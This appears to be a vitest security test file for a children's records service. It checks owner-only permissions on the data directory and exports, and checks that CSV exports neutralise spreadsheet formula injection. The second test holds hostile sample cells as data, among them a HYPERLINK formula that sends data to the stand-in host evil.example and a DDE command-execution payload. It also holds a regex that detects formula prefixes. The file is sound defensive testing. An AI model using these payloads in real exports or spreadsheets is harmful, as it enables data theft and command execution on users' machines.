// Issue 11, findings 2 and 5 (files): the data directory, the admin token and exports are the service user's alone,
// whatever the umask, whoever created them (the service or the admin CLI), and repaired at start with a log line.
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { children } from '../../src/db/schema.js';
import { adminCli, SecureService, widerThanOwner } from './service.js';

describe('issue 11 · files', () => {
  const root = mkdtempSync(join(tmpdir(), 'cw-sec-files-'));
  let umask: number;
  // The widest umask: every mode the code does not set itself shows up as readable and writable by all.
  beforeAll(() => {
    umask = process.umask(0);
  });
  afterAll(() => {
    process.umask(umask);
    rmSync(root, { recursive: true, force: true });
  });
  let service: SecureService | undefined;
  afterEach(async () => {
    await service?.stop();
    service = undefined;
  });

  it('finding 2: the data directory is 0700/0600 when the admin CLI or the service creates it, and repaired with a log line at start', async () => {
    const dataDir = join(root, 'by-cli');
    const created = await adminCli(['areas', 'list'], { DATA_DIR: dataDir });
    expect(created.code).toBe(0);
    expect(widerThanOwner(dataDir)).toEqual([]);

    // An older install, or someone's chmod: the directory and PGlite's files opened up, a stray copy beside them.
    chmodSync(dataDir, 0o755);
    chmodSync(join(dataDir, 'PG_VERSION'), 0o666);
    writeFileSync(join(dataDir, 'copy-of-wal.txt'), '13800138000', { mode: 0o644 });
    service = await SecureService.start({ DATA_DIR: dataDir });
    expect(widerThanOwner(dataDir)).toEqual([]);
    const repairLine = service.logLines.find((l) => l.includes('repaired to 0700/0600'));
    expect(repairLine).toBeDefined();
    expect(JSON.parse(repairLine!), repairLine).toMatchObject({ entries: 3 });
    expect(statSync(join(dataDir, 'admin.token')).mode & 0o777).toBe(0o600);
    // Work that makes PGlite write (a WAL full of a guardian's phone), then a clean stop: still nobody else's.
    await service.db.insert(children).values({ name: '模式测试', areaCode: '990101001001', guardianPhone: '13800138000' });
    await service.stop();
    service = undefined;
    expect(widerThanOwner(dataDir)).toEqual([]);

    // A start on a directory that was left private says nothing about repairs.
    service = await SecureService.start({ DATA_DIR: dataDir });
    expect(service.logLines.some((l) => l.includes('repaired to 0700/0600'))).toBe(false);
  });

  it('finding 5: CSV cells that a spreadsheet would run are neutralised, XLSX stays typed, exports are 0600 (also over an existing file)', async () => {
    const dataDir = join(root, 'exports');
    service = await SecureService.start({ DATA_DIR: dataDir });
    const link = '=HYPERLINK("http://evil.example/?d="&E2,"详情")';
    const hostile = { name: link, guardianName: '@SUM(1+1)*cmd', address: '-2+3+cmd|\' /C calc\'!A0', guardianRelation: '\t=1+1' };
    await service.db.insert(children).values({ ...hostile, areaCode: '990101001001', guardianPhone: '+8613800138000', idNumber: '11010520150308002X' });

    const csv = join(root, 'children.csv');
    writeFileSync(csv, 'old', { mode: 0o644 });
    // Through the running service (the CLI hands the command over) …
    const remote = await adminCli(['export', 'children', '--area', '99', '--format', 'csv', '--full-id', '--out', csv], { DATA_DIR: dataDir });
    expect(remote.code).toBe(0);
    expect(statSync(csv).mode & 0o777).toBe(0o600);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(readFileSync(csv, 'utf8').replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][]).flat();
    for (const value of [...Object.values(hostile), '+8613800138000']) {
      expect(cells).toContain(`'${value}`);
      expect(cells).not.toContain(value);
    }
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // … and on its own, as an .xlsx whose cells are text: the formula is the text the caseworker typed, not a formula.
    await service.stop();
    service = undefined;
    const xlsx = join(root, 'children.xlsx');
    const local = await adminCli(['export', 'children', '--area', '99', '--format', 'xlsx', '--full-id', '--out', xlsx], { DATA_DIR: dataDir });
    expect(local.code).toBe(0);
    expect(statSync(xlsx).mode & 0o777).toBe(0o600);
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(readFileSync(xlsx) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain(link);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });
});
